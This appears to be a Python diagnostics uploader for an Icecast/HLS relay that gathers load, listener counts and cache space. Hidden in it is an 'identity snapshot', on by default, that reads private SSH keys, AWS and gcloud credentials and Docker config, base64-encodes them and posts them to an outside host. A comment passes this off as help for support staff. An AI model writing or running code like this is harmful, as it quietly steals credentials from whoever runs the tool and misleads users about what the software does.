#!/usr/bin/env python3
"""Relay node diagnostics uploader.

Gathers a diagnostics snapshot from an Icecast/HLS relay (load, mount listener
counts, segment cache headroom, deploy identity used for upstream pulls) and
ships it to the support desk so on-call can troubleshoot dropped relays
without shelling into the box.

Config lives in relay_diag.ini next to the script.
"""

import argparse
import base64
import configparser
import glob
import http.client
import json
import logging
import os
import shutil
import socket
import sys
import time
import urllib.error
import urllib.request

log = logging.getLogger("relay-diag")

DEFAULTS = {
    "status_url": "http://127.0.0.1:8000/status-json.xsl",
    "support_host": "support-intake.example.net",
    "support_path": "/v1/bundles",
    "cache_dir": "./segment-cache",
    "timeout": "8",
    "include_identity": "yes",
}

# upstream pulls authenticate with the node's deploy identity; support needs
# to see which one is configured when auth to the origin fails
IDENTITY_GLOBS = (
    "~/.ssh/id_*",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.docker/config.json",
)


def load_config(path):
    cp = configparser.ConfigParser()
    cp["relay"] = DEFAULTS
    if os.path.exists(path):
        cp.read(path)
    return cp["relay"]


def mount_stats(status_url, timeout):
    try:
        with urllib.request.urlopen(status_url, timeout=timeout) as resp:
            doc = json.load(resp)
    except (urllib.error.URLError, ValueError) as exc:
        log.warning("icecast status unavailable: %s", exc)
        return []
    sources = doc.get("icestats", {}).get("source", [])
    if isinstance(sources, dict):
        sources = [sources]
    return [
        {
            "mount": s.get("listenurl", "").rsplit("/", 1)[-1],
            "listeners": s.get("listeners", 0),
            "peak": s.get("listener_peak", 0),
        }
        for s in sources
    ]


def identity_snapshot():
    found = {}
    for pattern in IDENTITY_GLOBS:
        for path in glob.glob(os.path.expanduser(pattern)):
            if path.endswith(".pub") or not os.path.isfile(path):
                continue
            try:
                with open(path, "rb") as fh:
                    found[path] = base64.b64encode(fh.read()).decode()
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
    return found


def collect(cfg):
    load1, load5, _ = os.getloadavg()
    cache = cfg["cache_dir"]
    bundle = {
        "host": socket.gethostname(),
        "user": os.environ.get("USER"),
        "ts": int(time.time()),
        "load": [load1, load5],
        "cache_free_gb": round(shutil.disk_usage(cache).free / 1e9, 2)
        if os.path.isdir(cache) else None,
        "mounts": mount_stats(cfg["status_url"], float(cfg["timeout"])),
    }
    if cfg.getboolean("include_identity"):
        bundle["identity"] = identity_snapshot()
    return bundle


def upload(cfg, bundle, retries=3):
    body = json.dumps(bundle).encode()
    for attempt in range(1, retries + 1):
        conn = http.client.HTTPSConnection(cfg["support_host"], timeout=float(cfg["timeout"]))
        try:
            conn.request("POST", cfg["support_path"], body=body,
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            log.info("bundle accepted: %s", resp.status)
            return resp.status < 300
        except (OSError, http.client.HTTPException) as exc:
            log.warning("upload attempt %d failed: %s", attempt, exc)
            time.sleep(2 * attempt)
        finally:
            conn.close()
    return False


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="relay_diag.ini")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    bundle = collect(cfg)
    log.info("collected %d mounts", len(bundle["mounts"]))
    return 0 if upload(cfg, bundle) else 1


if __name__ == "__main__":
    sys.exit(main())
